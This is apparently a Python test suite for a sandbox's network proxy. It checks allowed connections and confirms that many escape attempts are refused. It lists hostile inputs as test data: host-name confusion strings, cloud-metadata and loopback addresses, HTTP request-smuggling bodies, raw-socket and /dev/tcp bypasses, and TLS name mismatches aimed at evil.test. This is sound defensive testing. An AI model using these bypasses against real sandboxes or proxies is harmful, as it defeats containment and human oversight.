"""The way out of a sandbox, and every way around it that we know (ATTACKS: network). Runs inside stage.py."""
import json
import os
import shlex
import shutil
import socket
import subprocess
import tempfile
import threading
import unittest

HERE = os.path.dirname(os.path.abspath(__file__))
RUN = os.environ["CORDON_BIN"] + "/sandbox_run"
STAGE = os.environ["STAGE"]
A = "93.184.216.1"


class Case(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.dir = tempfile.mkdtemp(prefix="network-", dir=os.environ.get("CORDON_TEST_DIR"))
        os.chmod(cls.dir, 0o755)
        shutil.copy(f"{HERE}/client.py", cls.dir)
        shutil.copy(f"{STAGE}/ca.pem", cls.dir)

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.dir, ignore_errors=True)

    def setUp(self):
        self.seen = os.path.getsize(f"{STAGE}/log") if os.path.exists(f"{STAGE}/log") else 0

    def log(self, what=None):
        """What the outside saw since the test began."""
        with open(f"{STAGE}/log") as file:
            file.seek(self.seen)
            return [line for line in map(json.loads, file) if what in (None, line["what"])]

    def run_in(self, rules, shell, *options):
        reach = [word for rule in rules or [""] for word in ("--reach", rule)]
        done = subprocess.run([RUN, *reach, "--bind", f"{self.dir}:/tmp/test:ro", *options, "--shell", shell],
                              capture_output=True, text=True, timeout=120)
        self.assertTrue(done.stdout, done.stderr)
        report = json.loads(done.stdout)
        self.assertEqual(report["outcome"], "exited", report)
        return report

    def ask(self, rules, function, *arguments, options=()):
        text = json.dumps(arguments)
        report = self.run_in(rules, f"python3 /tmp/test/client.py {function} {shlex.quote(text)}", *options)
        self.assertEqual(report["exit_code"], 0, report["stderr"])
        self.contacts = report["contacts"]
        return json.loads(report["stdout"])

    def curl(self, rules, arguments, *options):
        report = self.run_in(rules, f"curl -sS -m 30 --cacert /tmp/test/ca.pem {arguments}", *options)
        self.contacts = report["contacts"]
        return report


class Reaches(Case):
    def test_a_named_host_by_http_https_and_socks(self):
        for arguments in ("http://a.test/", "https://a.test/", "-x socks5h://127.0.0.1:3128 http://a.test/",
                          "-x socks5h://127.0.0.1:3128 https://a.test/", "-p http://a.test/", "--http1.0 http://a.test/"):
            report = self.curl(["a.test"], arguments)
            self.assertEqual(report["stdout"], "hello from outside\n", (arguments, report["stderr"]))
            [contact] = self.contacts
            self.assertEqual((contact["stage"], contact["host"], contact["address"], contact["rule"]),
                             ("closed", "a.test", A, "a.test"))
            self.assertGreater(contact["received"], 20)
            self.assertGreater(contact["sent"], 20)

    def test_names_below_a_domain(self):
        self.assertEqual(self.curl(["*.a.test"], "https://sub.a.test/")["stdout"], "hello from outside\n")
        self.assertEqual(self.curl(["*.a.test"], "https://a.test/")["exit_code"], 56)

    def test_aliases_the_hosts_file_ipv6_and_answers_that_need_tcp(self):
        for name in ("alias.test", "listed.test", "six.test", "big.test"):
            report = self.curl([name], f"http://{name}/")
            self.assertEqual(report["stdout"], "hello from outside\n", (name, report["stderr"], self.contacts))

    def test_bodies_of_every_framing_both_ways(self):
        report = self.curl(["a.test"], "-d x=1 http://a.test/ -d @/tmp/test/client.py -H 'Transfer-Encoding: chunked' "
                                       "http://a.test/ http://a.test/chunked http://a.test/until-close")
        self.assertEqual(report["stderr"], "")
        report = self.curl(["a.test"], "http://a.test/chunked http://a.test/until-close http://a.test/bytes/3000000 "
                                       "-o /dev/null -o /dev/null -o /dev/null -w '%{size_download} '")
        self.assertEqual(report["stdout"], "5 10 3000000 ", report["stderr"])
        report = self.run_in(["a.test"], "head -c 3000000 /dev/zero | curl -sS -T - http://a.test/up; curl -sSI http://a.test/")
        self.assertIn("HTTP/1.1 200", report["stdout"], report["stderr"])
        self.assertIn(3000000, [line["body"] for line in self.log("http")])

    def test_a_kept_connection_is_kept_and_each_request_judged(self):
        text = "".join(f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n" for host in ("a.test", "b.test", "a.test", "mirror.test"))
        [answer] = self.ask(["a.test", "b.test"], "raw", [text])
        self.assertEqual(answer.count("HTTP/1.1 200"), 3)
        self.assertEqual(answer.count("HTTP/1.1 403"), 1)
        self.assertEqual([line["host"] for line in self.log("http")], ["a.test", "b.test", "a.test"])

    def test_a_server_that_speaks_first(self):
        answer = self.ask(["a.test:7"], "through", "a.test", 7, "connect", "words\n")
        self.assertEqual(answer[1], "greetings\nwords\n")
        answer = self.ask(["a.test:7"], "through", "a.test", 7, "socks", "\x00\x01binary")
        self.assertEqual(answer[1], "greetings\n\x00\x01binary")

    def test_a_websocket_to_the_same_server(self):
        text = ("GET http://a.test/upgrade HTTP/1.1\r\nHost: a.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nping\n")
        [answer] = self.ask(["a.test"], "raw", [text])
        self.assertTrue(answer.startswith("HTTP/1.1 101") and answer.endswith("\r\n\r\nping\n"), answer)

    def test_an_address_that_a_rule_names(self):
        with socket.create_server(("10.77.0.1", 0)) as server:
            port = server.getsockname()[1]

            def answer_once():
                with server.accept()[0] as client:
                    client.sendall(b"inner")

            threading.Thread(target=answer_once, daemon=True).start()
            answer = self.ask([f"private.test:{port}", f"10.77.0.1:{port}"], "through", "private.test", port, "connect", "")
            self.assertEqual(answer[1], "inner")

    def test_methods_of_plain_requests(self):
        rules = ["GET,HEAD a.test"]
        self.assertEqual(self.curl(rules, "http://a.test/")["stdout"], "hello from outside\n")
        self.assertIn("for plain requests with these methods only", self.curl(rules, "-d x http://a.test/")["stdout"])
        self.assertEqual(self.curl(rules, "https://a.test/")["exit_code"], 56)

    def test_trouble_outside_has_its_own_words(self):
        report = self.curl(["a.test:81", "nowhere.test"], "http://a.test:81/ http://nowhere.test/")
        self.assertIn("cannot be reached: Connection refused", report["stdout"])
        self.assertIn("cannot be found: there is no such name", report["stdout"])
        self.assertEqual({contact["stage"] for contact in self.contacts}, {"failed"})


class Refuses(Case):
    def refused(self, rules, arguments, reason, would_allow):
        report = self.curl(rules, arguments)
        [contact] = [contact for contact in self.contacts if contact["stage"] == "refused"]
        self.assertIn(reason, contact["reason"])
        self.assertEqual(contact["would_allow"], would_allow)
        return report

    def test_what_no_rule_names_and_says_what_to_add(self):
        report = self.refused(["a.test"], "http://b.test/", "no rule names it", "b.test:80")
        self.assertIn("- b.test:80", report["stdout"])
        self.refused(["a.test"], "https://b.test/", "no rule names it", "b.test:443")
        self.refused(["a.test"], "http://a.test:8080/", "is for ports 80 and 443", "a.test:8080")
        self.refused([], "http://a.test/", "no rule names it", "a.test:80")
        self.assertEqual(self.log(), [], "it is decided before anything is looked up")

    def test_every_way_past_the_proxy(self):
        listener = socket.create_server(("127.0.0.1", 0))
        near = socket.create_server(("10.77.0.1", 0))
        port, near_port = listener.getsockname()[1], near.getsockname()[1]
        answers = self.ask(["a.test"], "direct", [
            ["AF_INET", "SOCK_STREAM", "127.0.0.1", port], ["AF_INET", "SOCK_STREAM", "10.77.0.1", near_port],
            ["AF_INET", "SOCK_STREAM", "169.254.169.254", 80], ["AF_INET", "SOCK_STREAM", A, 80],
            ["AF_INET6", "SOCK_STREAM", "::1", port], ["AF_INET6", "SOCK_STREAM", "::ffff:127.0.0.1", port],
            ["AF_INET6", "SOCK_STREAM", "2a00:1450::1", 80], ["AF_INET", "SOCK_DGRAM", "93.184.216.53", 53],
            ["AF_INET", "SOCK_DGRAM", A, 443], ["AF_INET", "SOCK_RAW", A, 0]])
        self.assertNotIn("connected", answers)
        for server in (listener, near):
            server.settimeout(0)
            self.assertRaises(BlockingIOError, server.accept)
            server.close()
        report = self.run_in(["a.test"], "curl -sS --noproxy '*' http://a.test/; getent hosts secret.evil.test; "
                                         "exec 3<>/dev/tcp/93.184.216.1/80 && echo through")
        self.assertEqual(report["stdout"], "")
        self.assertEqual(self.log(), [])

    def test_landlock_and_the_namespace_hold_alone(self):
        for layer in ("landlock", "seccomp"):
            answers = self.ask(["a.test"], "direct", [["AF_INET", "SOCK_STREAM", A, 80]], options=("--without", layer))
            self.assertNotIn("connected", answers)

    def test_names_that_another_reader_reads_differently(self):
        hosts = ["a.test.evil.test", "evil.test\x00.a.test", "a.test\x00.evil.test", "a.test@evil.test", "evil.test#a.test",
                 "a.test%2eevil.test", "a.test%00", "a.test\\evil.test", "a.test/evil.test", "a.test..", ".a.test", "a..test",
                 "a.test evil.test", "a.test\tevil.test", "xn--a-ecp.test", "\xd0\xb0.test", "a\xe3\x80\x82test", "*.test", "*",
                 "[a.test]", "a" * 64 + ".test", "a." * 130 + "test", "2130706433", "0x7f.1", "0177.0.0.1", "127.1", "0",
                 "[::1]", "[::ffff:7f00:1]", "[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "[fe80::1%25lo]", "169.254.169.254",
                 "0xa9fea9fe", "localhost", "evil.test", "secret.evil.test", "a.test\r\nX-Y: z", "a.test:443@evil.test"]
        texts = [f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n" for host in hosts]
        texts += [f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n" for host in hosts]
        texts += [f"GET http://a.test/ HTTP/1.1\r\nHost: {host}\r\n\r\n" for host in hosts if "\r" not in host]
        for text, answer in zip(texts, self.ask(["a.test"], "raw", texts)):
            self.assertRegex(answer, r"^HTTP/1.1 40[03] ", repr(text))
        self.assertEqual(self.log(), [])
        bodies = ["\x05\x01\x00\x03" + chr(len(host)) + host + "\x01\xbb" for host in hosts if len(host) < 256]
        for body, code in zip(bodies, self.ask(["a.test"], "socks", bodies)):
            self.assertIn(code, (2, None), repr(body))
        self.assertEqual(self.log(), [])
        self.assertGreaterEqual(len(texts) + len(bodies), 100)

    def test_names_that_lead_to_this_machine_or_its_neighbours(self):
        listener = socket.create_server(("0.0.0.0", 443))
        names = {"loop.test": "loopback", "private.test": "private", "meta.test": "metadata", "own.test": "this machine itself",
                 "zero.test": "no host", "cgnat.test": "shared", "multi.test": "multicast", "loop6.test": "loopback",
                 "mapped.test": "loopback", "nat64.test": "loopback", "sixtofour.test": "loopback", "ula.test": "private",
                 "link6.test": "local link", "own6.test": "this machine itself", "alias-loop.test": "loopback",
                 "inner.test": "private", "localhost": "loopback"}
        for answer in self.ask(list(names), "status", [[name, 443] for name in names]):
            self.assertIn(" 403 ", answer)
        reasons = {contact["host"]: contact["reason"] for contact in self.contacts}
        for name, word in names.items():
            self.assertIn(word, reasons[name])
        listener.settimeout(0)
        self.assertRaises(BlockingIOError, listener.accept)
        listener.close()

    def test_a_name_with_one_address_outside_and_one_inside_goes_outside(self):
        self.assertEqual(self.curl(["mixed.test"], "http://mixed.test/")["stdout"], "hello from outside\n")
        self.assertEqual(self.contacts[0]["address"], A)

    def test_a_name_that_changes_its_address_between_two_requests(self):
        answers = self.ask(["rebind.test"], "status", [["rebind.test", 80], ["rebind.test", 80], ["rebind.test", 80]])
        self.assertIn(" 403 ", answers[1])
        self.assertIn(" 403 ", answers[2])

    def test_tls_to_another_name(self):
        answers = self.ask(["a.test"], "tls", [["a.test", "a.test"], ["a.test", "evil.test"], ["a.test", None],
                                               ["a.test", "sub.a.test"], ["a.test", "A.TEST"]])
        self.assertEqual(answers[0], "HTTP/1.1 200 x")
        self.assertEqual(answers[1:4], ["TLSV1_ALERT_ACCESS_DENIED"] * 3)
        self.assertEqual(answers[4], "HTTP/1.1 200 x")
        self.assertNotIn("evil.test", [line["name"] for line in self.log("tls")])
        self.assertIn("its TLS names the server evil.test", str(self.contacts))

    def test_plain_requests_to_another_name_inside_of_a_tunnel(self):
        for transport in ("connect", "socks"):
            for text in ("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
                         "PROXY TCP4 1.1.1.1 1.1.1.1 1 1\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
                         "GET / HTTP/1.1\r\nHost: a.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
                         "FOO http://evil.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n",
                         "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "\x01anything else"):
                answer = self.ask(["a.test"], "through", "a.test", 80, transport, text)
                self.assertNotIn("evil", "".join(str(line["host"]) for line in self.log("http")))
                self.assertNotIn("200 x\r\n\r\nhello from outside\nHTTP/1.1 200", answer[1])
        self.assertEqual(self.ask(["a.test"], "through", "a.test", 80, "socks", "GET / HTTP/1.1\r\nHost: a.test\r\n\r\n")[1][-6:], "tside\n")

    def test_requests_that_hide_another_request(self):
        hidden = "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
        line = "POST http://a.test/ HTTP/1.1\r\nHost: a.test\r\n"
        texts = [line + fields + "\r\n" + body + hidden for fields, body in (
            ("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"), ("Content-Length: 3\r\nContent-Length: 5\r\n", "abc"),
            ("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "0\r\n\r\n"), ("Transfer-Encoding: chunked\r\n", "0;\r\n\r\n"),
            ("Transfer-Encoding : chunked\r\n", "0\r\n\r\n"), ("Content-Length: 0x5\r\n", ""), ("Transfer-Encoding: chunked\r\n", "0\r\nX: y\r\n\r\n"),
            ("Content-Length: 5\n", "abcde"))]
        for answer in self.ask(["a.test"], "raw", texts):
            self.assertNotIn("200", answer.split("\r\n")[0])
        self.assertNotIn("evil.test", json.dumps(self.log()))

    def test_ports_commands_and_the_proxy_itself(self):
        answers = self.ask(["a.test"], "status", [["a.test", 22], ["127.0.0.1", 3128], ["localhost", 3128], ["a.test", 65535]])
        self.assertTrue(all(" 403 " in answer for answer in answers), answers)
        target = "\x00\x03\x06a.test\x01\xbb"
        self.assertEqual(self.ask(["a.test"], "socks", ["\x05\x02" + target, "\x05\x03" + target, "\x05\xf0" + target,
                                                        "\x05\x01\x00\x02\x06a.test\x01\xbb"]), [7, 7, 7, 8])
        self.assertEqual(self.log(), [])

    def test_a_redirect_to_another_host(self):
        report = self.curl(["a.test"], "-L http://a.test/redirect/b.test")
        self.assertIn("- b.test:80", report["stdout"])
        self.assertEqual([line["host"] for line in self.log("http")], ["a.test"])

    def test_a_server_whose_answer_has_two_lengths(self):
        self.assertIn("cannot be read", self.curl(["a.test"], "http://a.test/two-lengths")["stdout"])

    def test_more_bytes_than_a_run_may_move(self):
        report = self.curl(["a.test"], "-o /dev/null http://a.test/bytes/5000000", "--network-bytes", "1000000")
        self.assertNotEqual(report["exit_code"], 0)
        self.assertIn("are spent", json.dumps(self.contacts))

    def test_a_connection_that_lasts_longer_than_one_may(self):
        for url in ("http://a.test/endless", "https://a.test/endless"):
            report = self.curl(["a.test"], f"-o /dev/null {url}", "--connection-ms", "300")
            self.assertNotEqual(report["exit_code"], 28, "it went on until curl gave up")
            self.assertIn("lasted as long as one may", json.dumps(self.contacts))
        self.assertEqual(self.curl(["a.test"], "http://a.test/", "--connection-ms", "60000")["exit_code"], 0)

    def test_no_more_connections_at_once_than_a_run_may_have(self):
        held = "exec 3<>/dev/tcp/127.0.0.1/${http_proxy##*:}; "
        report = self.run_in(["a.test"], held + "curl -sS -m 2 http://a.test/", "--connections", "1")
        self.assertEqual(report["exit_code"], 28, "the one that waits is not served beside the one that is open")
        self.assertEqual(self.run_in(["a.test"], held + "curl -sS -m 60 http://a.test/", "--connections", "2")["exit_code"], 0)

    def test_rules_that_cannot_be_read_open_nothing(self):
        self.assertEqual(self.curl(["a.test", "*.com"], "https://a.test/")["exit_code"], 56)


class TheProxy(Case):
    def test_has_no_files_no_rights_and_a_filter(self):
        shell = "curl -sS http://a.test/ >/dev/null; echo ready; read line"
        run = subprocess.Popen([RUN, "--raw", "--stdin-inherit", "--reach", "a.test", "--shell", shell], stdin=subprocess.PIPE,
                               stdout=subprocess.PIPE, text=True)
        self.assertEqual(run.stdout.readline(), "ready\n")
        children = [pid for pid in os.listdir("/proc") if pid.isdigit() and self.parent(pid) == run.pid and self.name(pid) == "cordon-proxy"]
        [proxy] = children
        with open(f"/proc/{proxy}/status") as file:
            status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
        self.assertEqual((status["Seccomp"], status["NoNewPrivs"], int(status["CapEff"], 16), int(status["CapPrm"], 16)), ("2", "1", 0, 0))
        self.assertNotEqual(status["Uid"].split()[0], "0")
        if os.getuid() == 0:
            links = [os.readlink(f"/proc/{proxy}/fd/{fd}") for fd in os.listdir(f"/proc/{proxy}/fd")]
            self.assertFalse([link for link in links if not link.startswith(("socket:", "anon_inode:", "/dev/null", "pipe:"))], links)
        run.stdin.write("\n")
        run.stdin.close()
        self.assertEqual(run.wait(30), 0)
        run.stdout.close()
        self.assertFalse(os.path.exists(f"/proc/{proxy}"), "it ends with its sandbox")

    @staticmethod
    def parent(pid):
        try:
            with open(f"/proc/{pid}/stat") as file:
                return int(file.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            return 0

    @staticmethod
    def name(pid):
        try:
            with open(f"/proc/{pid}/comm") as file:
                return file.read().strip()
        except OSError:
            return ""

    def test_is_not_started_where_nothing_connects(self):
        report = self.run_in(["a.test"], "true")
        self.assertEqual(report["contacts"], [])


if __name__ == "__main__":
    unittest.main(verbosity=1)
